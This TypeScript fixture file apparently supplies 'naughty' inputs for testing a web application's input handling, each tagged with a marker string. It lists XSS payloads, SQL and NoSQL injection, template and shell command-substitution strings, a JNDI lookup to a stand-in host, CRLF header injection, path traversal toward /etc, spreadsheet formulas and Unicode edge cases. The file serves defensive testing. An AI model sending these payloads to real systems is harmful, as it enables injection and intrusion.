/** Stands in every text that is sent, so that it is known again wherever it turns up. */
export const marker = 'mkr7';

/**
 * What breaks out of where it is put, if nobody minds. `sent`: as it goes over the wire, percent-encoded
 * by ourselves, because some of it is no text that a client of ours could send.
 */
export type Naughty = { name: string; sent: string };

const text = (name: string, typed: string): Naughty => ({ name, sent: encodeURIComponent(typed) });
const raw = (name: string, sent: string): Naughty => ({ name, sent });

export const naughty: readonly Naughty[] = [
  // Markup, attributes, addresses and scripts.
  text('an element', `<${marker}x>`),
  text('a script', `<script>${marker}z()</script>`),
  text('an image', `<img src=x onerror=${marker}y>`),
  text('a quote and an attribute', `" ${marker}y="1`),
  text('a single quote and an attribute', `' ${marker}y='1`),
  text('the end of a tag', `"><${marker}x>`),
  text('the end of a title', `</title></textarea></style><${marker}x>`),
  text('the end of a script', `</script><${marker}x>`),
  text('a comment', `--><${marker}x><!--`),
  text('an address that runs', `javascript:${marker}()`),
  text('an address of data', `data:text/html,<${marker}x>`),
  text('another site', `//${marker}.example/`),
  text('another site behind a backslash', `/\\${marker}.example`),
  text('another site behind our own', `https://forms.example.org@${marker}.example/`),
  text('vector graphics', `<svg/onload=${marker}y>`),
  text('half an entity', `&lt;${marker}&#60;&`),
  text('escaped twice', `%3C${marker}x%3E`),
  // Databases, templates and shells.
  text('SQL', `${marker}' OR '1'='1' --`),
  text('an operator', `{"$ne":"${marker}"}`),
  text('a condition', `attribute_exists(pk) ${marker}`),
  text('a template', `{{${marker}}}\${${marker}}<%= ${marker} %>#{${marker}}`),
  text('a shell', `;$(${marker})|\`${marker}\``),
  text('a format', `%s%n%x%d ${marker}`),
  text('a lookup', `\${jndi:ldap://${marker}.example/a}`),
  text('a key of ours', `P#northbrook#${marker}`),
  text('a separator of ours', `${marker}~a~b#c.d/e|f`),
  // Headers and paths.
  raw('a header', `${marker}%0D%0ASet-Cookie:%20${marker}=1`),
  raw('a header by one sign', `${marker}%0A${marker}y:%201`),
  raw('a header in wide letters', `${marker}%E5%98%8A%E5%98%8D${marker}y:1`),
  text('a way out', `../../../../etc/${marker}`),
  text('a way out of Windows', `..\\..\\${marker}`),
  raw('a way out, escaped', `%252e%252e%252f${marker}`),
  raw('a nought', `${marker}%00.pdf`),
  // Spreadsheets.
  text('a formula', `=1+1+${marker}`),
  text('a formula behind a tab', `\t=${marker}`),
  text('a call', `@SUM(${marker})`),
  text('a formula behind a comma', `a,=${marker}`),
  // Keys that objects have of themselves.
  text('a prototype', '__proto__'),
  text('a constructor', 'constructor'),
  text('a property', 'toString'),
  text('a path of keys', `__proto__[${marker}]`),
  // Letters.
  text('from right to left', `\u202E${marker}\u202C`),
  text('nothing to see', `\u200B\u200D\uFEFF\u2060`),
  text('marks upon marks', `${marker}${'\u0300\u0315'.repeat(60)}`),
  text('emoji', `${marker}👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿`),
  text('wide letters', `＜${marker}x＞`),
  text('letters that grow', `${marker}ﷺİß`),
  raw('half a pair', `${marker}%ED%A0%80`),
  raw('an overlong slash', `${marker}%C0%AF`),
  raw('half an escape', `${marker}%4`),
  raw('no escape at all', `${marker}%zz`),
  raw('bytes that are no letters', `%FF%FE${marker}`),
  text('controls', `${marker}\u0007\u001B[31m\u007F`),
  text('line ends', `${marker}\r\n\u2028\u2029\u0085`),
  // Numbers, dates and nothings.
  text('a huge number', '9'.repeat(400)),
  text('a number that is none', 'NaN'),
  text('infinity', '-1e999'),
  text('a number below nought', '-1'),
  text('a fraction', '1.5e-7'),
  text('another way of counting', '0x10'),
  text('a day that never was', '2026-02-31'),
  text('the end of time', '+275760-09-13T00:00:00.001Z'),
  text('null', 'null'),
  text('undefined', 'undefined'),
  text('true', 'true'),
  text('nothing', ''),
  text('a space', ' '),
  text('a long word', marker.repeat(500)),
  text('JSON', `{"${marker}":[{"a":{}}]}`),
  text('JSON without an end', `[[[[[[[[[["${marker}`),
  text('JSON of another shape', `[null,1,"${marker}",{"person":{}}]`),
];
